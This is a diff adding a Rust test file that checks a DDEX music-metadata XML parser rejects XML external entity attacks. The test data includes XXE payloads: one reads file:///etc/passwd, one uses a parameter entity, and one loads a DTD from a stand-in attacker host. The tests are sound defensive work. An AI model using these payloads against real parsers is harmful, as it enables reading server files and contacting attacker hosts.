@@ -0,0 +1,86 @@
+// core/tests/external_entity_test.rs
+use ddex_parser::parser::security::SecurityConfig;
+use ddex_parser::{error::ParseError, DDEXParser};
+use std::io::Cursor;
+
+fn message(doctype: &str) -> String {
+    format!(
+        r#"<?xml version="1.0" encoding="UTF-8"?>
+{doctype}
+<ern:NewReleaseMessage xmlns:ern="http://ddex.net/xml/ern/43" MessageSchemaVersionId="ern/43">
+    <MessageHeader>
+        <MessageId>MSG_ENTITY_001</MessageId>
+        <MessageSender>
+            <PartyId>PADPIDA_SENDER</PartyId>
+            <PartyName><FullName>Test Label</FullName></PartyName>
+        </MessageSender>
+        <MessageRecipient>
+            <PartyId>PADPIDA_RECIPIENT</PartyId>
+            <PartyName><FullName>Test DSP</FullName></PartyName>
+        </MessageRecipient>
+        <MessageCreatedDateTime>2024-01-01T00:00:00Z</MessageCreatedDateTime>
+    </MessageHeader>
+    <ReleaseList>
+        <Release>
+            <ReleaseReference>R1</ReleaseReference>
+            <ReleaseTitle><TitleText>Album &amp; Friends</TitleText></ReleaseTitle>
+            <ReleaseType>Album</ReleaseType>
+        </Release>
+    </ReleaseList>
+</ern:NewReleaseMessage>"#
+    )
+}
+
+const EXTERNAL_ENTITY: &str =
+    r#"<!DOCTYPE ern:NewReleaseMessage [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#;
+
+fn security_violation(xml: &str, config: SecurityConfig) -> String {
+    match DDEXParser::with_config(config).parse(Cursor::new(xml.as_bytes())) {
+        Err(ParseError::SecurityViolation { message }) => message,
+        other => panic!("Expected SecurityViolation, got: {:?}", other.map(|_| ())),
+    }
+}
+
+#[test]
+fn test_external_entity_rejected_by_default() {
+    let message = security_violation(&message(EXTERNAL_ENTITY), SecurityConfig::default());
+    assert!(message.contains("'xxe'"), "unexpected message: {}", message);
+    assert!(message.contains("file:///etc/passwd"), "unexpected message: {}", message);
+}
+
+#[test]
+fn test_parameter_entity_and_external_subset_rejected_by_default() {
+    let parameter = message(
+        r#"<!DOCTYPE ern:NewReleaseMessage [<!ENTITY % remote "<!ENTITY leak 'x'>"> %remote;]>"#,
+    );
+    let message_text = security_violation(&parameter, SecurityConfig::default());
+    assert!(message_text.contains("'%remote'"), "unexpected message: {}", message_text);
+
+    let subset = message(
+        r#"<!DOCTYPE ern:NewReleaseMessage SYSTEM "http://attacker.example/evil.dtd">"#,
+    );
+    let message_text = security_violation(&subset, SecurityConfig::default());
+    assert!(
+        message_text.contains("http://attacker.example/evil.dtd"),
+        "unexpected message: {}",
+        message_text
+    );
+}
+
+#[test]
+fn test_relaxed_config_parses_without_expanding_entities() {
+    let config = SecurityConfig {
+        disable_dtd: false,
+        disable_external_entities: false,
+        ..SecurityConfig::default()
+    };
+    let result = DDEXParser::with_config(config)
+        .parse(Cursor::new(message(EXTERNAL_ENTITY).as_bytes()))
+        .unwrap();
+
+    let releases = result.releases();
+    assert_eq!(releases.len(), 1);
+    assert_eq!(releases[0].default_title, "Album & Friends");
+    // Nothing is read from the entity's system ID
+    assert!(!format!("{:?}", result).contains("root:"));
+}